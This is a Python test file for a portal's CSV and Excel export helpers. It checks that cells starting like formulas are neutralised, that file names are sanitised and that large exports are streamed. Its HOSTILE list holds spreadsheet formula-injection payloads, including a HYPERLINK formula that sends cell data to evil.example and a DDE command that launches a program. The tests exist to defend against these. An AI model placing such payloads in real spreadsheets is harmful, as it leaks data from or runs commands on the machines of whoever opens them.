"""Tables to take away hold no formula that somebody else wrote."""

from __future__ import annotations

import csv
import io
import tracemalloc
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal.web.downloads import csv_response, safe_cell, xlsx_response

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "+44 113 496 0000",
    "\x00=1+1",
]
PLAIN = ["Example Café", "O'Brien & Sons", "a=b", "1-2", "", "'quoted"]


def table(response) -> list[list[str]]:
    text = response.get_data().decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_cell_that_begins_as_a_formula_is_text(cell: str) -> None:
    assert safe_cell(cell).startswith("'")
    assert table(csv_response("x", ["a"], [[cell]]))[1][0].startswith("'")


@pytest.mark.parametrize("cell", PLAIN)
def test_other_text_is_left_alone(cell: str) -> None:
    assert safe_cell(cell) == cell


@given(st.text())
def test_no_text_ever_begins_a_formula(cell: str) -> None:
    safe = str(safe_cell(cell))
    assert not safe.lstrip()[:1] or safe.lstrip()[0] not in "=+-@\uff1d\uff0b\uff0d\uff20"


def test_numbers_stay_numbers_and_days_are_days() -> None:
    at = datetime(2026, 7, 1, 23, 30, tzinfo=UTC)
    assert safe_cell(-5) == -5
    assert safe_cell(Decimal("-1.50")) == Decimal("-1.50")
    assert safe_cell(True) == "Yes"
    assert safe_cell(None) == ""
    assert safe_cell(date(2026, 3, 1)) == "2026-03-01"
    # Half past eleven in UTC is the next day in a London summer.
    assert safe_cell(at) == "2026-07-02 00:30"


def test_the_header_is_guarded_too_and_the_name_is_safe() -> None:
    response = csv_response('ca"ses\r\nX: y/../z', ["=a", "b"], [])
    assert table(response) == [["'=a", "b"]]
    assert response.headers["Content-Disposition"] == 'attachment; filename="ca-ses-X-y-..-z.csv"'
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.content_type == "text/csv; charset=utf-8"
    assert response.content_length == len(response.get_data())


def test_quotes_commas_and_line_ends_survive() -> None:
    row = ['say "no"', "a,b", "two\nlines", "Łódź"]
    assert table(csv_response("x", ["a", "b", "c", "d"], [row]))[1] == row


def sheet_of(response) -> str:
    with zipfile.ZipFile(io.BytesIO(response.get_data())) as book:
        assert book.testzip() is None
        return book.read("xl/worksheets/sheet1.xml").decode()


def test_a_workbook_holds_text_numbers_and_days_but_no_formula_and_no_link() -> None:
    day, at = date(2026, 3, 1), datetime(2026, 3, 1, 9, 0, tzinfo=UTC)
    rows = [[cell, -5, day, at, None, True] for cell in [*HOSTILE, "https://evil.example/"]]
    sheet = sheet_of(xlsx_response("x", ["=h", "n", "d", "t", "e", "b"], rows))
    assert "<f>" not in sheet
    assert "<hyperlink" not in sheet.lower()
    assert "<v>-5</v>" in sheet
    assert "<v>46082</v>" in sheet
    assert sheet.count('t="inlineStr"') == 6 + 2 * len(rows)


def test_a_cell_longer_than_a_spreadsheet_takes_is_cut_not_lost() -> None:
    sheet = sheet_of(xlsx_response("x", ["a"], [["y" * 40_000]]))
    assert sheet.count("y" * 32_767) == 1


def test_a_big_list_is_never_held_whole() -> None:
    rows = ([f"Employer {number}", "x" * 200, number] for number in range(40_000))
    tracemalloc.start()
    response = csv_response("x", ["a", "b", "c"], rows)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert response.content_length > 8_000_000
    assert peak < 4_000_000
    response.close()
